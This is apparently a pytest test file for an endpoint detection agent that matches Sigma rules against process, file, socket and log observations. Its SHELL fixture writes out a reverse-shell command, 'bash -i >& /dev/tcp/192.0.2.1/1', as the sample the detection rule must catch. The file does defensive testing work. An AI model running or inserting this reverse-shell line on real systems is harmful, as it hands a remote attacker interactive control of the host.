import pytest
from hypothesis import given

from agent.sense.match.sigmafindings import FIELDS_MAX, RuleJudge
from proto import codec
from proto.content.rules import Technique
from proto.model import (
    Argument,
    Attack,
    Disposition,
    Endpoint,
    File,
    LogLine,
    Observation,
    ObservationKind,
    Severity,
    Thing,
)
from tests.collector.content.rulesources import a_rule, compiled, own
from tests.proto.builders import a_process, an_observation, values_of

TENANT, HOST = b"t" * 16, b"h" * 16
JUDGE = RuleJudge(own().rules)
SHELL = a_process(exe="/bin/bash", argv=("bash", "-i", ">&", "/dev/tcp/192.0.2.1/1"))
SSHD = a_process(exe="/usr/sbin/sshd")


def a_judge(detection: str, more: str = "") -> RuleJudge:
    made = compiled(a_rule(detection, more=more))
    assert made.reports == ()
    return RuleJudge(made.rules)


def test_a_finding_says_which_rule_matched_what_by_which_fields() -> None:
    observation = an_observation(SHELL, ancestry=(SSHD,))

    (finding,) = JUDGE.judge(observation, TENANT, HOST)

    assert finding.rule.id == "5f1c7f64-2a52-4d0e-9d9a-2f6f6b0f5a01"
    assert finding.title == finding.rule.name == "Shell With Its Streams On A Socket"
    assert (finding.severity, finding.disposition) == (Severity.HIGH, Disposition.ALERT)
    assert finding.confidence == 50
    assert finding.attack == (Attack("18.1", "T1059.004", "execution"),)
    assert finding.process == SHELL
    assert finding.ancestry == (SSHD,)
    assert Argument("Image", "/bin/bash") in finding.arguments
    assert Argument("rule_author", "Vedette") in finding.arguments


def test_what_is_informational_is_a_signal_and_what_is_given_up_only_kept() -> None:
    seen = an_observation(SHELL)
    quiet = a_judge("  sel:\n    Image: /bin/bash", "level: informational\n")
    old = a_judge("  sel:\n    Image: /bin/bash", "level: high\nstatus: deprecated\n")

    assert quiet.judge(seen, TENANT, HOST)[0].disposition is Disposition.SIGNAL
    assert old.judge(seen, TENANT, HOST)[0].disposition is Disposition.SHADOW


def test_the_same_thing_found_again_has_the_same_key() -> None:
    first = an_observation(SHELL, ancestry=(SSHD,))
    again = an_observation(SHELL, ancestry=(SSHD,), observed_at=5)
    other = an_observation(SHELL, ancestry=(a_process(exe="/usr/sbin/nginx"),))

    keys = [JUDGE.judge(one, TENANT, HOST)[0].key for one in (first, again, other)]

    assert keys[0] == keys[1] != keys[2]


@pytest.mark.parametrize(
    ("kind", "thing", "line"),
    [
        (ObservationKind.FILE_CREATED, File("/etc/cron.d/x"), "TargetFilename: /etc/cron.d/x"),
        (
            ObservationKind.SOCKET_OPEN,
            Endpoint("tcp", "192.0.2.1", 1, "198.51.100.1", 443),
            "DestinationPort: 443",
        ),
        (ObservationKind.LOG_LINE, LogLine("/var/log/x", "sshd", "a word", 0), "message: a word"),
    ],
)
def test_what_is_no_process_is_told_with_the_one_behind_it(
    kind: ObservationKind, thing: Thing, line: str
) -> None:
    rule = a_rule(f"  sel:\n    {line}").replace(", category: process_creation", "")
    judge = RuleJudge(compiled(rule).rules)

    (finding,) = judge.judge(an_observation(thing, kind=kind, process=SHELL), TENANT, HOST)

    assert [entity.value for entity in finding.entities] == [thing, SHELL]
    assert finding.process == SHELL
    assert len(finding.arguments) <= FIELDS_MAX + 1


def test_a_tactic_alone_is_no_technique() -> None:
    judge = a_judge("  sel:\n    Image: /bin/bash", "tags: [attack.execution]\n")

    assert judge.judge(an_observation(SHELL), TENANT, HOST)[0].attack == ()
    assert Technique(tactic="execution").technique == ""


@given(values_of(Observation))
def test_any_observation_gives_findings_that_can_be_sealed(observation: Observation) -> None:
    for finding in JUDGE.judge(observation, TENANT, HOST):
        assert codec.encode_record(finding)
